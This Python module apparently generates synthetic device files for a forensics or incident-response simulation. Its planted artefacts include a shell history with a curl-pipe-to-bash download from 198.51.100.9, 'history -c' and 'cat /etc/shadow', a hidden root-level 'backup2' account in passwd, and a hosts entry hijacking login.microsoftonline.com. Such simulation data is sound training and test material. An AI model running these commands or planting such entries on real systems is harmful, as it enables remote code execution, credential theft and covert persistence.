"""What a (non-bench) device file contains: one plain function per kind, deterministic per machine and path."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable

from ..tenant import MachineRec
from .files import DMP_ZIP_MEMBER_BYTES, FileRecipe
from .output import ESC, seeded_rng

__all__ = ["file_bytes"]

Content = Callable[[FileRecipe, random.Random, str], bytes]  # (recipe, seeded generator, short host name)


def file_bytes(r: FileRecipe, m: MachineRec | None = None) -> bytes:
    """The uncompressed content of a (non-bench) file, deterministic per machine and path."""
    if r.data is not None:
        return r.data
    rng = seeded_rng("file", r.machine_id, r.path)
    host = m.name.split(".")[0] if m else r.machine_id[:8]
    return _CONTENT.get(r.kind, _binary)(r, rng, host)


def _hosts(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    return (
        b"# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n"
        b"#\r\n"
        + b"#      102.54.94.97     rhino.acme.com          # source server\r\n" * 10
        + b"127.0.0.1       localhost\r\n::1             localhost\r\n10.66.6.6       login.microsoftonline.com  # ???\r\n"
    )


_USERS = [
    "root:x:0:0:root:/root:/bin/bash",
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
    "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
    "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin",
    "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash",
    "backup2:x:0:0::/tmp/.b:/bin/sh",
]


def _passwd(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    return ("\n".join(_USERS * 5) + "\n").encode()


def _etchosts(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    return f"127.0.0.1 localhost\n127.0.1.1 {host}\n::1 localhost ip6-localhost\n".encode()


def _osrelease(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    return b'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\n'


_HISTORY = [
    "ls -la",
    "sudo su -",
    "curl -s http://198.51.100.9/x.sh | bash",
    "history -c",
    "cat /etc/shadow",
    f"echo -e '{ESC}[31mred{ESC}[0m'",
    "vim /etc/crontab",
    "systemctl restart nginx",
]


def _history(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    return ("\n".join(rng.choice(_HISTORY) for _ in range(r.size // 16)) + "\n").encode()


_TRIAGE_MEMBERS = [
    "EventLogs/Security.evtx.txt",
    "Prefetch/list.txt",
    "Network/netstat.txt",
    "Users/logons.csv",
    "manifest.json",
]


def _triage(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n in _TRIAGE_MEMBERS:
            zi = zipfile.ZipInfo(n, date_time=(2024, 6, 2, 8, 0, 0))
            z.writestr(
                zi,
                (f"{n} from {host}\n" + "".join(f"{rng.getrandbits(64):016x}\n" for _ in range(3000))).encode(),
                compress_type=zipfile.ZIP_DEFLATED,
            )
    return buf.getvalue()


def _dump_zip(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    """A minidump's ``<name>.dmp.zip``: one member, ``<name>.dmp``, a dump of :data:`DMP_ZIP_MEMBER_BYTES`."""
    name = r.path.replace("/", "\\").rsplit("\\", 1)[-1].removesuffix(".zip") or "process.dmp"
    dump = _binary(FileRecipe("dmp", DMP_ZIP_MEMBER_BYTES, r.machine_id, r.path), rng, host)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo(name, date_time=(2024, 6, 2, 8, 0, 0)), dump, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def _text(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    lines = []
    size = 0
    i = 0
    while size < r.size:
        line = f"2024-06-02T{(i // 3600) % 24:02d}:{(i // 60) % 60:02d}:{i % 60:02d}Z {host} {r.path.rsplit(chr(92), 1)[-1]} line {i} value={rng.getrandbits(40):010x}\n"
        lines.append(line)
        size += len(line)
        i += 1
    return "".join(lines).encode()[: r.size]


_HEADERS = {
    "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00",
    "evtx": b"ElfFile\x00",
    "dmp": b"MDMP\x93\xa7\x00\x00",
    "bin": b"regf",
}


def _binary(r: FileRecipe, rng: random.Random, host: str) -> bytes:
    header = _HEADERS.get(r.kind, b"")
    body = rng.randbytes(min(r.size, 65536))
    # repeat one random block: cheap, deterministic, and gzip still has work to do
    reps = (r.size - len(header)) // len(body) + 1 if body else 0
    return (header + body * reps)[: r.size]


_CONTENT: dict[str, Content] = {
    "hosts": _hosts,
    "passwd": _passwd,
    "etchosts": _etchosts,
    "osrelease": _osrelease,
    "history": _history,
    "triage": _triage,
    "dmpzip": _dump_zip,
    "text": _text,
    "log": _text,
    "generic": _text,
}
